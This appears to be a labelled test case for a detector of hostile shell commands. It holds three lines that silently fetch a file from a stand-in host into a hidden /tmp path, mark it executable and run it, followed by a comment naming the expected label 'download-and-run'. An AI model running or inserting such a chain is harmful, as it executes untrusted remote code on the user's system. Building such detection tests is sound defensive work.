wget -qO /tmp/.u https://files.collect.example/u
chmod +x /tmp/.u
/tmp/.u # expect: malicious-command/download-and-run
